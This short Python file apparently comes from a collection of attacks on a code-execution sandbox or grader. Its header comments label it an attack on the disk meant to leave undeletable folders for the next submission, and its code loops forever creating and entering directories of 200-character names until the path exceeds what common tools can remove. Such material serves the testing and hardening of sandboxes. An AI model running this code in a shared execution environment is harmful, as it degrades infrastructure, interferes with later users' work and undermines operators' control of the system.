# attacks: the disk: folders within folders, deeper than a path can be long
# success: they are still there for the next submission, or cannot be removed
# stock: it leaves a folder that common tools cannot remove
# %% before
import os

while True:
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
